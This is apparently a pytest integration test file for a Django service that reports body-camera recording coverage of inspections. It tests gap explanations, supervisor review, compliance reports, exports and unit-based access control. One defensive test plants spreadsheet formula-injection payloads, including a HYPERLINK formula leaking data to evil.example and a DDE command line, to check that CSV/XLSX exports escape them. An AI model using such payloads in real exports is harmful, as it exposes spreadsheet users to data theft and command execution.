"""Explanations and their decisions, reports and exports, and who may see what."""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from backend.accounts.models import Role, UnitKind
from backend.audit.models import AuditEvent
from tests.coverage_integration.conftest import (
    World,
    at,
    client_for,
    create_activity,
    make_recording,
)
from tests.factories import make_unit, make_user

pytestmark = pytest.mark.django_db
MINUTE = datetime.timedelta(minutes=1)


def activity(
    world: World,
    client: Any,
    *,
    start: str,
    stage: str = "现场检查",
    officers: Any = None,
    minutes: int = 30,
    unit: Any = None,
) -> str:
    begin = at(start)
    response = create_activity(
        client,
        category="行政检查",
        stage=stage,
        officers=officers or [world.alice],
        start=begin,
        stop=begin + minutes * MINUTE,
        unit_id=(unit or world.office).pk,
    )
    assert response.status_code == 201, response.content
    return str(response.json()["id"])


def test_officer_explains_gap_and_supervisor_decides(world: World) -> None:
    start = at("2026-03-02 09:00")
    make_recording(world.alice_device, world.alice, start, start + 10 * MINUTE)
    make_recording(world.alice_device, world.alice, start + 15 * MINUTE, start + 30 * MINUTE)
    activity_id = activity(world, client_for(world.supervisor), start="2026-03-02 09:00")
    alice = client_for(world.alice_user)
    url = f"/api/coverage/activities/{activity_id}/explanations"
    bad = alice.post(url, {"reason": "aliens"}, content_type="application/json")
    assert bad.status_code == 400 and bad.json()["code"] == "unknown_explanation_reason"
    other = alice.post(url, {"reason": "other"}, content_type="application/json")
    assert other.status_code == 400 and other.json()["code"] == "explanation_text_required"
    backwards = alice.post(
        url,
        {
            "reason": "battery",
            "gap_from": (start + 15 * MINUTE).isoformat(),
            "gap_to": (start + 10 * MINUTE).isoformat(),
        },
        content_type="application/json",
    )
    assert backwards.status_code == 400 and backwards.json()["code"] == "gap_ends_before_start"
    explained = alice.post(
        url,
        {
            "reason": "battery",
            "text": "电池耗尽，更换电池",
            "gap_from": (start + 10 * MINUTE).isoformat(),
            "gap_to": (start + 15 * MINUTE).isoformat(),
        },
        content_type="application/json",
    )
    assert explained.status_code == 201, explained.content
    explanation_id = explained.json()["id"]
    # Bob took no part: he may not explain; he does not even see the activity.
    assert (
        client_for(world.bob_user)
        .post(url, {"reason": "battery"}, content_type="application/json")
        .status_code
        == 404
    )
    coverage = client_for(world.supervisor).get(f"/api/coverage/activities/{activity_id}").json()
    assert coverage["verdict"] == "gaps" and coverage["explanation_status"] == "pending"
    assert coverage["explanation_status_zh"] == "说明待审核"
    assert coverage["verdict_explained_zh"] == (
        "记录中断（覆盖率 83.3%）；李明 说明「电量耗尽：电池耗尽，更换电池」（待审核）"
    )
    # The 5-minute hole carries the explanation given for it.
    [hole] = [gap for gap in coverage["gaps"] if gap["seconds"] == 300.0]
    assert hole["explanation_ids"] == [explanation_id] and hole["explanation_status"] == "pending"
    decision_url = f"/api/coverage/explanations/{explanation_id}/decision"
    assert (
        alice.post(decision_url, {"accept": True}, content_type="application/json").status_code
        == 403
    )
    assert (
        client_for(world.other_supervisor)
        .post(decision_url, {"accept": True}, content_type="application/json")
        .status_code
        == 404
    )
    accepted = client_for(world.supervisor).post(
        decision_url, {"accept": True, "note": "已核实"}, content_type="application/json"
    )
    assert accepted.status_code == 200 and accepted.json()["state"] == "accepted"
    twice = client_for(world.supervisor).post(
        decision_url, {"accept": False}, content_type="application/json"
    )
    assert twice.status_code == 409 and twice.json()["code"] == "explanation_already_decided"
    coverage = client_for(world.supervisor).get(f"/api/coverage/activities/{activity_id}").json()
    # Both: the verdict stays what the footage shows, next to the accepted explanation.
    assert coverage["verdict"] == "gaps" and coverage["explanation_status"] == "accepted"
    assert coverage["explanations"][0]["reason_label"] == "电量耗尽"
    assert coverage["verdict_explained_zh"] == (
        "记录中断（覆盖率 83.3%）；李明 说明「电量耗尽：电池耗尽，更换电池」"
        "（已采纳，审核意见：已核实）"
    )
    assert coverage["verdict_explained_en"].startswith("gaps (covered 83.3%); 李明 explained")
    # Reports keep the verdict and count the accepted explanation beside it.
    [row] = client_for(world.supervisor).get("/api/coverage/reports/units").json()["rows"]
    assert (row["compliant"], row["decided"], row["explained"]) == (0, 1, 1)
    assert row["compliance_rate"] == 0.0 and row["compliance_rate_explained"] == 1.0
    [officer_row] = (
        client_for(world.supervisor).get("/api/coverage/reports/officers").json()["rows"]
    )
    assert officer_row["explained"] == 1
    [activity_row] = (
        client_for(world.supervisor).get("/api/coverage/reports/activities").json()["rows"]
    )
    assert activity_row["explanations_zh"] == "说明已采纳"
    assert activity_row["median_gap_seconds"] == 300.0
    assert "已采纳" in activity_row["verdict_explained_zh"]
    assert AuditEvent.objects.filter(action="coverage.explanation_decided").count() == 1


@pytest.mark.clock
def test_reports_and_exports(world: World) -> None:
    supervisor = client_for(world.supervisor)
    # March: one compliant (alice), one late start (alice, 5 min late), one not recorded (bob),
    # one open (undecidable); April: one with a 2-minute gap.
    s1, s2, s3 = at("2026-03-02 09:00"), at("2026-03-03 09:00"), at("2026-03-04 09:00")
    make_recording(world.alice_device, world.alice, s1, s1 + 30 * MINUTE)
    make_recording(world.alice_device, world.alice, s2 + 5 * MINUTE, s2 + 30 * MINUTE)
    activity(world, supervisor, start="2026-03-02 09:00")
    activity(world, supervisor, start="2026-03-03 09:00")
    activity(world, supervisor, start="2026-03-04 09:00", officers=[world.bob])
    create_activity(
        supervisor,
        category="行政检查",
        stage="现场检查",
        officers=[world.alice],
        start=s3 + 60 * MINUTE,
        unit_id=world.office.pk,
    )
    s4 = at("2026-04-01 09:00")
    make_recording(world.alice_device, world.alice, s4, s4 + 10 * MINUTE)
    make_recording(world.alice_device, world.alice, s4 + 12 * MINUTE, s4 + 30 * MINUTE)
    activity(world, supervisor, start="2026-04-01 09:00")
    # Another unit's activity must not appear.
    activity(
        world,
        client_for(world.other_supervisor),
        start="2026-03-02 09:00",
        officers=[world.carol],
        unit=world.other,
    )

    units = supervisor.get("/api/coverage/reports/units").json()["rows"]
    assert [(r["month"], r["unit"]) for r in units] == [
        ("2026-03", "城关司法所"),
        ("2026-04", "城关司法所"),
    ]
    march, april = units
    assert (march["activities"], march["required"], march["recorded"]) == (4, 4, 2)
    assert (march["decided"], march["compliant"], march["undecidable"]) == (3, 1, 1)
    assert march["activation_rate"] == 0.5 and march["compliance_rate"] == pytest.approx(
        1 / 3, abs=1e-4
    )
    assert march["late_start"] == 1 and march["early_stop"] == 0
    assert march["explained"] == 0 and march["compliance_rate_explained"] == pytest.approx(
        1 / 3, abs=1e-4
    )
    assert april["median_gap_seconds"] == 120.0 and april["gap_count"] == 1

    officers = supervisor.get(
        "/api/coverage/reports/officers?date_from=2026-03-01&date_to=2026-03-31"
    ).json()["rows"]
    by_name = {r["officer"]: r for r in officers}
    assert set(by_name) == {"李明", "王芳"}
    # 李明: recorded in 2 of 3 (the open activity has no recording yet); 王芳: 0 of 1.
    assert by_name["李明"]["activation_rate"] == pytest.approx(2 / 3, abs=1e-4)
    assert by_name["王芳"]["activation_rate"] == 0.0 and by_name["王芳"]["required"] == 1

    rows = supervisor.get("/api/coverage/reports/activities?date_from=2026-03-01").json()["rows"]
    assert len(rows) == 5 and {r["unit"] for r in rows} == {"城关司法所"}
    assert [(r["verdict"], r["recorded"]) for r in rows] == [
        ("compliant", "是"),
        ("late_start", "是"),
        ("not_recorded", "否"),
        ("undecidable", "否"),
        ("gaps", "是"),
    ]
    assert rows[-1]["median_gap_seconds"] == 120.0 and rows[-1]["longest_gap_seconds"] == 120.0
    assert rows[0]["explanations_zh"] == "无说明"

    exported = supervisor.get("/api/coverage/reports/units?format=csv")
    assert exported.status_code == 200 and exported["Content-Type"].startswith("text/csv")
    assert exported.content.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert table[0][:3] == ["月份", "单位编号", "单位"] and len(table) == 3
    xlsx = supervisor.get("/api/coverage/reports/activities?format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    assert sheet.cell(1, 1).value == "活动编号" and sheet.max_row == 6
    bad = supervisor.get("/api/coverage/reports/units?format=pdf")
    assert bad.status_code == 400 and bad.json()["code"] == "unknown_format"

    # A field officer's reports cover only their own activities; unit reports are refused.
    own = client_for(world.bob_user).get("/api/coverage/reports/activities").json()["rows"]
    assert len(own) == 1
    assert client_for(world.bob_user).get("/api/coverage/reports/units").status_code == 403


def test_other_unit_gets_404(world: World) -> None:
    activity_id = activity(world, client_for(world.supervisor), start="2026-03-02 09:00")
    outsider = client_for(world.other_supervisor)
    for url in (
        f"/api/coverage/activities/{activity_id}",
        f"/api/enforcement/activities/{activity_id}",
    ):
        response = outsider.get(url)
        assert response.status_code == 404, url
        assert response.json()["code"] == "activity_not_found"
    assert outsider.post(f"/api/coverage/activities/{activity_id}/recheck").status_code == 404
    assert outsider.get("/api/coverage/reports/activities").json()["rows"] == []
    auditor = client_for(make_user(role=Role.AUDITOR, unit=world.bureau))
    assert auditor.get(f"/api/coverage/activities/{activity_id}").status_code == 404
    # The bureau supervisor sees the office's activity (subtree); a sibling office does not.
    sibling_unit = make_unit("东关司法所", kind=UnitKind.OFFICE, parent=world.bureau)
    sibling = client_for(make_user(role=Role.SUPERVISOR, unit=sibling_unit))
    assert sibling.get(f"/api/coverage/activities/{activity_id}").status_code == 404
    assert (
        client_for(world.supervisor).get(f"/api/coverage/activities/{activity_id}").status_code
        == 200
    )
    assert (
        client_for(world.supervisor).get("/api/coverage/activities/not-a-uuid").status_code == 404
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_write_formulas_as_text(world: World, fmt: str) -> None:
    """Issue 13 item 7: an activity category of =HYPERLINK(...) came out as a live formula."""
    supervisor = client_for(world.supervisor)
    dangerous = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
    ]  # (tab and CR starts are stripped on input; tests/unit/test_spreadsheet_safety.py)
    for n, category in enumerate(dangerous):
        response = create_activity(
            supervisor,
            category=category,
            stage="现场检查",
            officers=[world.alice],
            start=at("2026-03-02 09:00") + n * MINUTE,
            unit_id=world.office.pk,
        )
        assert response.status_code == 201, response.content
    exported = supervisor.get(f"/api/coverage/reports/activities?format={fmt}")
    assert exported.status_code == 200
    if fmt == "csv":
        table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    else:
        sheet = load_workbook(io.BytesIO(exported.content)).worksheets[0]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        table = [
            [c if c is not None else "" for c in row] for row in sheet.iter_rows(values_only=True)
        ]
    cells = {cell for row in table[1:] for cell in row if isinstance(cell, str)}
    for category in dangerous:
        assert "'" + category in cells, (category, cells)
        assert category not in cells
    # Numbers stay numbers (a negative number is not a formula).
    if fmt == "xlsx":
        assert any(isinstance(c, int | float) for row in table[1:] for c in row)
